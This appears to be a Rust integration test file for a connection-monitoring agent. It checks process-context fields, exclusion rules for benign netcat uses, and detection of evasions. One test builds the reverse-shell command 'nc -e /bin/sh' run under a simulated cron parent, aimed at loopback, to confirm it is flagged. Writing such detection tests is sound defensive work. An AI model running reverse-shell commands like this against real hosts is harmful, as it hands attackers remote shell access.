//! Process context and the netcat false-positive rules, end to end: real processes, the
//! real exec/connect programs, the default rules.

use std::process::Command;

use iocmon_tests::{
    extra, from_pid, named_program, run_client, run_shell_as, scratch_dir, str_field, Agent,
};
use serde_json::Value;

const CLIENT: &str = env!("CARGO_BIN_EXE_ioc-connect");

const IOCS: &str = "127.0.0.2:4444\n127.0.0.3\n";

fn on_port(port: u16) -> impl Fn(&Value) -> bool {
    move |r: &Value| r["RemotePort"] == port
}

fn classes(record: &Value) -> Vec<String> {
    extra(record, "DetectionClasses")
        .as_array()
        .map(|a| {
            a.iter()
                .filter_map(|v| v.as_str().map(str::to_string))
                .collect()
        })
        .unwrap_or_default()
}

#[test]
fn process_that_connects_and_exits_at_once_keeps_its_full_context() {
    let mut agent = Agent::start("short-lived", IOCS, &[]);
    let pid = run_client(
        CLIENT,
        None,
        &[
            "tcp",
            "127.0.0.2:4444",
            "sleep",
            "0",
            "tcp",
            "127.0.0.3:7001",
        ],
    );
    // The client has exited before its record is read: all context came from exec time.
    let record = agent.wait_for("short-lived client", |r| from_pid(r, pid));
    assert_eq!(
        str_field(&record, "InitiatingProcessCommandLine"),
        format!("{CLIENT} tcp 127.0.0.2:4444 sleep 0 tcp 127.0.0.3:7001")
    );
    assert_eq!(str_field(&record, "InitiatingProcessFolderPath"), CLIENT);
    assert_eq!(
        str_field(&record, "InitiatingProcessFileName"),
        "ioc-connect"
    );
    assert_eq!(record["InitiatingProcessParentId"], std::process::id());
    let own_name = std::env::current_exe().unwrap();
    let own_name = own_name.file_name().unwrap().to_string_lossy();
    assert_eq!(
        str_field(&record, "InitiatingProcessParentFileName"),
        own_name
    );
    assert_eq!(str_field(&record, "InitiatingProcessAccountName"), "root");
    assert_eq!(extra(&record, "PosixEffectiveUserId"), 0);
    let created = str_field(&record, "InitiatingProcessCreationTime");
    assert_eq!(created.len(), 28, "{record}");
    assert!(created <= str_field(&record, "Timestamp"), "{record}");
    assert!(!str_field(&record, "InitiatingProcessParentCreationTime").is_empty());
}

#[test]
fn long_command_lines_are_truncated_and_marked() {
    let mut agent = Agent::start("long-cmdline", IOCS, &[]);
    let filler = "A".repeat(6000);
    let pid = run_client(CLIENT, None, &["tcp", "127.0.0.2:4444", "note", &filler]);
    let record = agent.wait_for("long command line", |r| from_pid(r, pid));
    assert_eq!(extra(&record, "CommandLineTruncated"), true, "{record}");
    let line = str_field(&record, "InitiatingProcessCommandLine");
    assert!(line.starts_with(&format!("{CLIENT} tcp 127.0.0.2:4444 note AAAA")));
    assert!(line.len() < 4200, "{}", line.len());
}

/// Each advisory scenario: excluded as network-tool by the named default rule.
#[test]
fn the_five_benign_scenarios_are_excluded_as_network_tool() {
    let mut agent = Agent::start("scenarios", IOCS, &["--show-excluded"]);
    let nc = named_program(CLIENT, "nc");
    let nc = nc.display();

    // 1. Backup/restore transfer.
    Command::new(named_program(CLIENT, "nc"))
        .args(["-w", "3", "127.0.0.5", "7101", "backup"])
        .status()
        .unwrap();
    // 2. Admin diagnostics.
    Command::new(named_program(CLIENT, "nc"))
        .args(["-zv", "127.0.0.5", "7102"])
        .status()
        .unwrap();
    // 3. Cron-driven log shipping (the shell stays: `; true` stops it exec'ing nc).
    run_shell_as(
        "cron",
        &format!("{nc} 127.0.0.5 7103 /var/log/syslog; true"),
    );
    // 4. A container talking to its own network (loopback here).
    let cgroup = container_cgroup();
    run_shell_as(
        "containerd-shim",
        &format!(
            "echo $$ > {}/cgroup.procs && exec {nc} 127.0.0.5 7104",
            cgroup.path.display()
        ),
    );
    // 5. netcat run by a security scanner.
    run_shell_as("nmap", &format!("{nc} 127.0.0.5 7105; true"));

    for (port, rule) in [
        (7101, "netcat-backup-restore"),
        (7102, "netcat-admin-diagnostics"),
        (7103, "netcat-cron-log-paths"),
        (7104, "netcat-container-internal"),
        (7105, "netcat-under-security-scanner"),
    ] {
        let record = agent.wait_for(rule, on_port(port));
        assert_eq!(extra(&record, "ExcludedBy"), rule, "{record}");
        assert_eq!(extra(&record, "DetectionClass"), "network-tool", "{record}");
        assert_eq!(str_field(&record, "InitiatingProcessFileName"), "nc");
    }
    let container = agent.wait_for("container record", on_port(7104));
    assert_eq!(
        extra(&container, "ContainerId"),
        cgroup.id.as_str(),
        "{container}"
    );
    let cron = agent.wait_for("cron record", on_port(7103));
    assert_eq!(str_field(&cron, "InitiatingProcessParentFileName"), "cron");
    let stopped = agent.stop();
    assert!(
        stopped
            .stderr
            .iter()
            .any(|l| l.contains("excluded by rules 5")),
        "{:?}",
        stopped.stderr
    );
}

/// Without --show-excluded an excluded event is not written at all.
#[test]
fn excluded_events_are_not_written_by_default() {
    let mut agent = Agent::start("excluded-hidden", IOCS, &[]);
    Command::new(named_program(CLIENT, "nc"))
        .args(["-zv", "127.0.0.5", "7201"])
        .status()
        .unwrap();
    // Marker: a plain nc connect (reported as network-tool), after the excluded one.
    Command::new(named_program(CLIENT, "nc"))
        .args(["127.0.0.5", "7202"])
        .status()
        .unwrap();
    let marker = agent.wait_for("marker", on_port(7202));
    assert_eq!(extra(&marker, "DetectionClass"), "network-tool");
    let stopped = agent.stop();
    assert!(
        !stopped.records.iter().any(on_port(7201)),
        "excluded event written"
    );
}

#[test]
fn evasions_are_still_reported() {
    let mut agent = Agent::start("evasions", IOCS, &[]);
    let nc = named_program(CLIENT, "nc");

    // A binary named nc with `backup` in its arguments, connecting to an indicator.
    Command::new(&nc)
        .args(["127.0.0.2", "4444", "backup"])
        .status()
        .unwrap();
    let backup = agent.wait_for("nc backup to an indicator", |r| {
        r["RemotePort"] == 4444 && str_field(r, "InitiatingProcessCommandLine").contains("backup")
    });
    assert_eq!(extra(&backup, "DetectionClass"), "ioc", "{backup}");
    assert_eq!(classes(&backup), vec!["ioc"]);
    assert_eq!(
        extra(&backup, "SuppressedClasses")[0]["Rule"],
        "netcat-backup-restore",
        "{backup}"
    );

    // `nc -zv` to an indicator.
    Command::new(&nc)
        .args(["-zv", "127.0.0.3", "7301"])
        .status()
        .unwrap();
    let diag = agent.wait_for("nc -zv to an indicator", on_port(7301));
    assert_eq!(extra(&diag, "DetectionClass"), "ioc", "{diag}");

    // `nc -e /bin/sh` under cron: a reverse shell, never excludable.
    run_shell_as(
        "cron",
        &format!("{} -e /bin/sh 127.0.0.5 7302; true", nc.display()),
    );
    let shell = agent.wait_for("nc -e under cron", on_port(7302));
    assert_eq!(extra(&shell, "DetectionClass"), "reverse-shell", "{shell}");
    assert!(classes(&shell).contains(&"reverse-shell".to_string()));
    assert!(extra(&shell, "ReverseShellEvidence").is_string(), "{shell}");
    assert_eq!(str_field(&shell, "InitiatingProcessParentFileName"), "cron");
}

/// A cgroup whose path carries a container id, the way docker's systemd driver names
/// them; removed when dropped.
struct ContainerCgroup {
    path: std::path::PathBuf,
    id: String,
}

fn container_cgroup() -> ContainerCgroup {
    let mountinfo = std::fs::read_to_string("/proc/self/mountinfo").unwrap();
    let root = mountinfo
        .lines()
        .find_map(|line| {
            let (mount, fs) = line.split_once(" - ")?;
            let mut fields = mount.split_whitespace();
            let root = fields.nth(3)?;
            let point = fields.next()?;
            (fs.starts_with("cgroup2 ") && root == "/").then(|| point.to_string())
        })
        .expect("a cgroup v2 hierarchy is mounted");
    let id = format!(
        "{:0>64x}",
        std::process::id() as u128 * 0x9e37_79b9_7f4a_7c15
    );
    let id: String = id.chars().rev().take(64).collect();
    let path = std::path::Path::new(&root).join(format!("iocmon-test-docker-{id}.scope"));
    let _ = std::fs::remove_dir(&path);
    std::fs::create_dir(&path).expect("creating the container cgroup");
    let _ = scratch_dir("container");
    ContainerCgroup { path, id }
}

impl Drop for ContainerCgroup {
    fn drop(&mut self) {
        // The test's processes have exited; an empty cgroup can be removed.
        for _ in 0..50 {
            if std::fs::remove_dir(&self.path).is_ok() {
                return;
            }
            std::thread::sleep(std::time::Duration::from_millis(20));
        }
    }
}
